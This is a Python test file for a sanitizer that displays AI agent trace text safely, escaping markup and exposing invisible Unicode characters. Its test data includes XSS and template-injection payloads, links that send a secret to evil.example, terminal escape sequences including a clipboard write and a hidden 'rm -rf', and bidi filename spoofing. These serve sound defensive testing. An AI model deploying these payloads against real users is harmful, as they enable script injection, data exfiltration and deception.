"""Text from traces never becomes markup, and nothing in it stays invisible."""

import time
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agentops.web.codepoints import is_hidden
from agentops.web.hostile import MAX_CHIPS, cut_note, reveal
from agentops.web.templatetags.traced import traced, traced_block
from tests.web.reading import read, text_of

ANY_TEXT = st.text(st.characters(exclude_categories=[]))
SPICY = st.text(st.sampled_from("ab<&'\"> \n\t\r\x00\x1b[m]\u200b\u202e\u0435\u0301\U000e0041é\ufe0f"))
CHECK_S = 20  # of CPU: far above what is needed on any machine; something that is not linear takes hours


@given(ANY_TEXT | SPICY)
@settings(max_examples=300)
def test_only_our_own_two_tags_ever_come_out(text: str) -> None:
    assert set(read(reveal(text).html).tags) <= {"span", "b"}


@given(st.text(st.characters(exclude_categories=["Mn", "Mc", "Me"])) | SPICY.map(lambda s: s.replace("\u0301", "")))
@settings(max_examples=300)
def test_every_character_can_be_read_back(text: str) -> None:
    # A line end of two characters is drawn as one: it hides nothing.
    assert text_of(reveal(text).html) == text.replace("\r\n", "\n")


@given(ANY_TEXT | SPICY)
@settings(max_examples=300)
def test_nothing_invisible_reaches_the_page(text: str) -> None:
    assert not [char for char in reveal(text).html if is_hidden(ord(char))]


@given(st.text("abc XYZ 123 .,;:!?()[]{}/äöüßéñ你好Приветκόσμε\n\t"))
def test_text_that_hides_nothing_comes_out_as_it_is(text: str) -> None:
    assert text_of(reveal(text).html) == text
    assert reveal(text).chips == 0


@given(ANY_TEXT, ANY_TEXT)
def test_a_longer_text_starts_like_the_shorter_one(head: str, tail: str) -> None:
    assert reveal(head + tail, len(head)).html == reveal(head).html


# H45 to H52 of the list of hostile inputs
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "</script></pre></bdi><b>",
        "{{7*7}} {% debug %} ${7*7}",
        "javascript:alert(1) data:text/html,x vbscript:x //evil.example",
        "![x](https://evil.example/?q=secret) [bank](https://evil.example) https://evil.example",
        '<b hx-get="https://evil.example" hx-on:load="x" hx-swap-oob="true">',
        "✔ Approved by admin\n2026-03-16 12:00:00 INFO nothing happened",
    ],
)
def test_markup_templates_links_and_fake_interface_are_letters(text: str) -> None:
    for html in (str(traced(text)), str(traced_block(text))):
        assert text_of(html) == text
        assert set(read(html).tags) <= {"bdi", "pre"}


@pytest.mark.parametrize(
    ("text", "chips"),
    [
        ("\x1b[31mred\x1b[0m", ["ESC[31m", "ESC[0m"]),
        ("\x1b]8;;http://evil.example\x07x\x1b]8;;\x07", ["ESC]", "U+0007", "ESC]", "U+0007"]),
        ("\x1b]52;c;cm0gLXJm\x07", ["ESC]", "U+0007"]),
        ("all is well\rrm -rf", ["U+000D"]),
        ("two\r\nlines", []),
        ("\u202egnp.exe", ["U+202E"]),
        ("a\u2066b\u2069", ["U+2066", "U+2069"]),
        ("\U000e0041\U000e0042", ["U+E0041", "U+E0042"]),
        ("prod\u200b-db soft\u00adhyphen", ["U+200B", "U+00AD"]),
        ("\u3164\u2800\ufe0f\u034f\u115f\u17b4\u180b\uffa0\U000e0100", None),
        ("no\u00a0break\u2003space\u2028line", ["U+00A0", "U+2003", "U+2028"]),
        ("\ue000\ud800\U000f0000\U0010ffff", ["U+E000", "U+D800", "U+F0000", "U+10FFFF"]),
        ("\x00" * 40, ["U+0000 ×40"]),
    ],
)
def test_what_cannot_be_seen_is_a_chip(text: str, chips: list[str] | None) -> None:
    shown = read(reveal(text).html).chips
    assert shown == (chips if chips is not None else [f"U+{ord(char):04X}" for char in text])


def test_a_chip_says_its_name_to_a_screen_reader() -> None:
    assert 'role="img" aria-label="U+202E RIGHT-TO-LEFT OVERRIDE"' in reveal("\u202e").html


def test_a_letter_that_passes_for_another_is_marked_in_its_word() -> None:
    html = reveal("call d\u0435lete_file, not delete_file").html
    assert html.count("mixed-script") == 1
    assert '<b title="U+0435 CYRILLIC SMALL LETTER IE">\u0435</b>lete_file' in html


@pytest.mark.parametrize("text", ["Привет мир", "γειά σου κόσμε", "5 μs, 3 kΩ", "naïve café", "привет-world"])
def test_languages_are_not_accused(text: str) -> None:
    assert "mixed-script" not in reveal(text).html


def test_a_storm_of_combining_marks_keeps_four_and_counts_the_rest() -> None:
    reader = read(reveal("Z" + "\u0301" * 10_000 + "algo").html)
    assert reader.chips == ["+9,996 marks"]
    assert sum(unicodedata.combining(char) > 0 for char in "".join(reader.parts)) == 4


def test_a_text_of_nothing_but_hidden_characters_is_cut_and_says_so() -> None:
    shown = reveal("a\u200b" * 500_000)
    assert shown.chips == MAX_CHIPS
    assert cut_note(shown).startswith("Cut after 2,000 hidden characters, 4,001 of 1,000,000 characters.")


def test_a_long_text_is_cut_with_a_sentence_and_storage_may_have_cut_before() -> None:
    assert "Cut at 10 of 100 characters. The whole is in the export." in str(traced_block("x" * 100, 10))
    assert "Cut at 100 of 5,000 characters." in str(traced_block("x" * 100, total=5_000))
    assert "Cut" not in str(traced_block("x" * 100))


def test_containers_stop_htmx_and_isolate_direction() -> None:
    assert str(traced("x")) == '<bdi class="traced" hx-disable>x</bdi>'
    assert str(traced_block("x")).startswith('<pre class="traced" dir="ltr" tabindex="0" hx-disable>')
    assert str(traced("")) == str(traced(None)) == ""


@pytest.mark.parametrize(
    "text",
    [
        "hello world <b>\n" * 65_000,
        "a" * 1_000_000 + "é",
        "привет мир " * 90_000,
        "你好世界" * 250_000,
        "Z" + "\u0301\u0302" * 500_000,
        "\x1b[" + "1" * 1_000_000,
        "\x1b" * 1_000_000,
        "α" * 1_000_000 + "b",
    ],
    ids=["ascii", "one word", "cyrillic", "chinese", "marks", "escape", "escapes", "greek word"],
)
def test_a_megabyte_takes_linear_time(text: str) -> None:
    reveal("\u0301\U0001f600")  # the tables are built once a process
    start = time.process_time()
    shown = reveal(text)
    assert time.process_time() - start < CHECK_S
    assert len(shown.html) < 3 * len(text)
